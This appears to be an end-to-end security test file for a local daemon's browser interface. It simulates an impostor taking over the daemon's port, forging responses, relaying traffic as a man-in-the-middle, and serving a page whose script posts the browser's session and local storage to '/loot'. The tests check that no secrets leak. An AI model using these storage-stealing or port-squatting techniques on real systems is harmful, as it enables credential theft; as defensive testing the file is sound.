// The daemon dies under open pages, and somebody else takes its port: hears what they say, answers as the daemon
// would, passes their questions on to the daemon that went elsewhere, has them reloaded. What he heard is worth
// nothing, and what he says is not believed.
import assert from 'node:assert/strict';
import { createServer, request as ask } from 'node:http';
import { after, before, test } from 'node:test';
import { DEADLINE, address, enter, json, lariat, lariatAsync, launch, rowOf, say, visitor } from './browser.mjs';

let browser;
let token;
before(async () => {
  browser = await launch();
  token = lariat('daemon', 'token').trim();
});
after(async () => browser.close());

/** A guest, with what it was let in with. */
async function guest() {
  const guest = await visitor(browser);
  const let_in = guest.page.waitForResponse((r) => new URL(r.url()).pathname === '/v1/enter');
  await enter(guest);
  const { key } = await (await let_in).json();
  assert.match(key, /^[0-9a-f]{64}$/);
  return { ...guest, key };
}

const passOf = (page) => page.evaluate(() => sessionStorage.getItem('lariat.pass'));

/** Kills the daemon; its port. */
async function kill(...pages) {
  const { pid, http } = json('daemon', 'status');
  process.kill(pid, 'SIGKILL');
  for (const page of pages) await page.locator('.lost', { hasText: 'No word from the daemon' }).waitFor();
  return Number(http.split(':').at(-1));
}

/** Takes a port; all that it hears is in `heard`. */
async function squat(port, answer) {
  const heard = [];
  const waits = [];
  const hear = async (request) => {
    let body = '';
    for await (const part of request) body += part;
    heard.push({ path: request.url, all: `${request.method} ${request.url}\n${request.rawHeaders.join('\n')}\n${body}` });
    waits.forEach((look) => look());
    return body;
  };
  const server = createServer(async (request, response) => answer(request, response, await hear(request)));
  server.on('upgrade', (request, socket) => {
    heard.push({ path: request.url, all: `${request.url}\n${request.rawHeaders.join('\n')}` });
    socket.destroy();
  });
  server.unref();
  // As whoever waits for it would: the port is free when the last of the daemon is gone.
  await new Promise((done, failed) => {
    const end = Date.now() + DEADLINE;
    server.on('error', (error) => (Date.now() > end ? failed(error) : setTimeout(() => server.listen(port, '127.0.0.1'), 5)));
    server.on('listening', done);
    server.listen(port, '127.0.0.1');
  });
  return {
    heard,
    /** Waits until so many requests for a path were heard. */
    until: (path, count) => new Promise((done, failed) => {
      const late = setTimeout(() => failed(new Error(`heard only ${heard.map((h) => h.path)}`)), DEADLINE);
      const look = () => {
        if (heard.filter((h) => h.path === path).length < count) return;
        clearTimeout(late);
        done();
      };
      waits.push(look);
      look();
    }),
    leave: () => new Promise((done) => {
      server.close(done);
      server.closeAllConnections();
    }),
  };
}

/** What the daemon would say, as somebody says it who knows all but the key. */
function lies(request, response) {
  const row = { ...json('status', 'triage'), id: 'claude:evil', name: 'evil', handle: 'evil', status: 'working' };
  const say = (body, kind = 'application/json') => {
    response.writeHead(200, { 'Content-Type': kind, 'Lariat-Proof': '0'.repeat(64) });
    response.end(typeof body === 'string' ? body : JSON.stringify(body));
  };
  if (request.url === '/v1/meet') return say({ schema: 1, run: '0'.repeat(32), proof: '0'.repeat(64) });
  if (request.url.startsWith('/v1/events')) return say(`id: 1\nevent: session.working\ndata: ${JSON.stringify({ event: 'session.working', session: row })}\n\n`, 'text/event-stream');
  return say({ schema: 1, at: row.updated_at, sessions: [row], unbound: [], warnings: [], hidden: { ended: 0 } });
}

async function status(port, bearer) {
  return (await say(port, `GET /v1/sessions HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: Bearer ${bearer}\r\nConnection: close\r\n\r\n`)).split(' ')[1];
}

test('a page never has the token, and its pass is good while the daemon lives', async () => {
  const one = await guest();
  const pass = await passOf(one.page);
  const { http } = json('daemon', 'status');
  assert.equal(await status(http.split(':').at(-1), pass), '200');
  const kept = await one.page.evaluate(() => JSON.stringify({ ...sessionStorage, ...localStorage }));
  assert.ok(kept.includes(pass) && !kept.includes(token) && !kept.includes(one.key), kept);
});

test('a stream that is not proven to be the daemon\'s is none', async () => {
  const one = await visitor(browser);
  await one.page.route('**/v1/events', (route) => lies({ url: '/v1/events' }, {
    writeHead: () => {},
    end: (body) => route.fulfill({ body, contentType: 'text/event-stream', headers: { 'Lariat-Proof': '0'.repeat(64) } }),
  }));
  await one.page.goto(address());
  await one.page.locator('.lost', { hasText: 'was told nothing' }).waitFor();
  assert.equal(await rowOf(one.page, 'evil').count(), 0);
  await one.page.unroute('**/v1/events');
  await one.page.locator('[data-line=live]').waitFor();
});

test('whoever takes the port hears nothing of use, and is not believed', async () => {
  const [one, other] = [await guest(), await guest()];
  await rowOf(other.page, 'triage').click();
  await other.page.getByRole('link', { name: 'Terminal' }).click();
  await other.page.locator('[data-terminal]', { hasText: 'connected' }).waitFor();
  const passes = [await passOf(one.page), await passOf(other.page)];
  const port = await kill(one.page, other.page);
  const secrets = [token, one.key, other.key, ...passes.map((p) => p.split('.').at(-1))];
  const clean = (heard) => {
    for (const { all } of heard) {
      assert.ok(!secrets.some((s) => all.includes(s)), all);
      assert.ok(!/authorization|lariat\.token/i.test(all), all);
    }
    assert.deepEqual([...new Set(heard.map((h) => h.path))], ['/v1/meet']);
  };

  const stranger = await squat(port, lies);
  await stranger.until('/v1/meet', 6);
  for (const { page } of [one, other]) await page.locator('.lost', { hasText: 'was told nothing' }).waitFor();
  // What a person does meanwhile goes nowhere.
  await other.page.getByRole('link', { name: 'Conversation' }).click();
  await other.page.getByLabel('Say something to triage').fill('a word in confidence');
  await other.page.getByRole('button', { name: 'Send' }).click();
  await other.page.locator('.notice', { hasText: 'nothing was sent' }).waitFor();
  clean(stranger.heard);
  assert.equal(await rowOf(other.page, 'evil').count(), 0);
  await stranger.leave();

  // He passes everything on to the real daemon, which is elsewhere by now.
  await lariatAsync('daemon', 'start', '--http', '0');
  const there = Number(json('daemon', 'status').http.split(':').at(-1));
  assert.notEqual(there, port);
  let passed = 0;
  const between = await squat(port, (request, response, body) => {
    const headers = { ...request.headers, host: `127.0.0.1:${there}`, origin: `http://127.0.0.1:${there}` };
    const on = ask({ port: there, host: '127.0.0.1', path: request.url, method: request.method, headers }, (answer) => {
      if (answer.statusCode === 200) passed += 1;
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    });
    on.end(body);
  });
  await between.until('/v1/meet', 3);
  await other.page.locator('.lost', { hasText: 'was told nothing' }).waitFor();
  assert.ok(passed >= 2, 'the real daemon answered him');
  clean(between.heard);
  for (const pass of passes) assert.equal(await status(there, pass), '401');
  await between.leave();

  // The daemon is back where it was: the page knows it again, by itself.
  lariat('daemon', 'restart', '--http', String(port));
  await other.page.locator('[data-line=live]').waitFor();
  await other.page.locator('.lost').waitFor({ state: 'hidden' });
  const fresh = await passOf(other.page);
  assert.equal(await status(port, fresh), '200');
  for (const pass of passes) assert.equal(await status(port, pass), '401', 'what was heard is worth nothing');
  // So does one that was reloaded since.
  await other.page.reload();
  await other.page.locator('[data-line=live]').waitFor();
  await kill(other.page);
  await lariatAsync('daemon', 'start', '--http', String(port));
  await other.page.locator('[data-line=live]').waitFor();
});

test('a page that is reloaded while somebody else has the port gives nothing away', async () => {
  const one = await guest();
  const port = await kill(one.page);
  const stranger = await squat(port, (request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end('<!doctype html><title>stranger</title><script>fetch("/loot", { method: "POST", body: JSON.stringify({ ...sessionStorage, ...localStorage }) })</script>');
  });
  await one.page.reload();
  await stranger.until('/loot', 1);
  const { all } = stranger.heard.find((h) => h.path === '/loot');
  assert.ok(!all.includes(token) && !all.includes(one.key), all);
  await stranger.leave();
  await lariatAsync('daemon', 'start', '--http', String(port));
  const pass = /page\.[0-9a-f]+\.[0-9a-f]+/.exec(all)[0];
  assert.equal(await status(port, pass), '401');
});
